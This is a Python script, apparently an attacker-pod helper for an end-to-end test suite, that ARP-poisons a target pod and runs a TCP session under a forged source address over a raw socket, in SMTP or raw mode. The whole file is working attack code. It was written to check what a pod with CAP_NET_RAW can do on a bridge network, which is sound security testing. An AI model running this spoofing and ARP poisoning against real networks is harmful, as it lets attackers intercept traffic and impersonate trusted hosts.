#!/usr/bin/env python3
# A TCP client with a forged source address, for the end-to-end suite's attacker pod
# (test/e2e/node-install.test.ts): what a pod's root with the container runtime's default capabilities
# (CAP_NET_RAW, no CAP_NET_ADMIN) can do on a bridge CNI. It tells the target pod, by ARP, that the
# forged address (or the gateway it routes that address through) is at the attacker's MAC, so the
# target's replies come to the attacker; then it speaks TCP itself over an AF_PACKET socket.
#
#   forged-source.py IFACE TARGET_IP TARGET_MAC TARGET_PORT FORGED_IP ARP_IP MODE ARG
#
# ARP_IP: the address whose MAC the target is told is the attacker's (FORGED_IP itself on the pod
# subnet, else the target's gateway). MODE smtp: ARG is a JSON list of commands, each sent after the
# previous reply. MODE raw: ARG is sent at once after the handshake. Prints JSON: {"connected",
# "replies" (smtp: each reply's last line), "text" (raw: what came back)}.
import json
import random
import socket
import struct
import sys
import time

iface, target_ip, target_mac, target_port, forged_ip, arp_ip, mode, arg = sys.argv[1:9]
target_port = int(target_port)
my_mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
dst_mac = bytes.fromhex(target_mac.replace(":", ""))
src = socket.inet_aton(forged_ip)
dst = socket.inet_aton(target_ip)

s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
s.bind((iface, 0))
s.settimeout(0.2)


def arp_poison():
    # a request for the target's own address, from ARP_IP at our MAC: the target records the sender
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + my_mac + socket.inet_aton(arp_ip)
    body += b"\x00" * 6 + dst
    s.send(dst_mac + my_mac + b"\x08\x06" + body)


def csum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


sport = random.randint(20000, 60000)
seq = random.randint(0, 2**31)
ack = 0


def send_tcp(flags, payload=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, target_port, seq, ack, 5 << 4, flags, 65000, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp) + len(payload))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp + payload)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(payload), random.randint(0, 65535), 0x4000, 64, 6, 0, src, dst
    )
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    s.send(dst_mac + my_mac + b"\x08\x00" + ip + tcp + payload)


def segments(deadline):
    """The target's TCP segments to the forged address until the deadline: (flags, seq, ack, payload)."""
    last_arp = 0.0
    while time.time() < deadline:
        if time.time() - last_arp > 0.3:
            arp_poison()
            last_arp = time.time()
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        if frame[12:14] != b"\x08\x00" or frame[0:6] != my_mac:
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0x0F) * 4
        if ip[9] != 6 or ip[12:16] != dst or ip[16:20] != src:
            continue
        total = struct.unpack("!H", ip[2:4])[0]
        tcp = ip[ihl:total]
        sp, dp, sq, ak, off, fl = struct.unpack("!HHIIBB", tcp[:14])
        if sp != target_port or dp != sport:
            continue
        yield fl, sq, ak, tcp[(off >> 4) * 4 :]


out = {"connected": False, "replies": [], "text": ""}
for _ in range(3):
    arp_poison()
    time.sleep(0.1)
send_tcp(0x02)  # SYN
seq += 1
for fl, sq, ak, _ in segments(time.time() + 5):
    if fl & 0x12 == 0x12:
        ack = sq + 1
        out["connected"] = True
        break
    if fl & 0x04:
        break
if out["connected"]:
    send_tcp(0x10)
    commands = json.loads(arg) if mode == "smtp" else []
    if mode == "raw":
        data = arg.encode()
        send_tcp(0x18, data)
        seq += len(data)
    buf = b""
    for fl, sq, ak, payload in segments(time.time() + 15):
        if payload and sq == ack:
            ack += len(payload)
            buf += payload
            send_tcp(0x10)
            while mode == "smtp" and b"\r\n" in buf:
                line, buf = buf.split(b"\r\n", 1)
                if len(line) > 3 and line[3:4] == b"-":
                    continue
                out["replies"].append(line.decode(errors="replace"))
                if not commands:
                    break
                c = (commands.pop(0) + "\r\n").encode()
                send_tcp(0x18, c)
                seq += len(c)
            if mode == "smtp" and not commands and out["replies"] and b"\r\n" not in buf:
                if len(out["replies"]) > len(json.loads(arg)):
                    break
        elif payload:  # a retransmission: acknowledge again
            send_tcp(0x10)
        if fl & 0x01:  # FIN
            ack += 1
            send_tcp(0x11)
            break
    out["text"] = buf.decode(errors="replace") if mode == "raw" else ""
    send_tcp(0x04)  # RST: leave no half-open session behind
print(json.dumps(out))
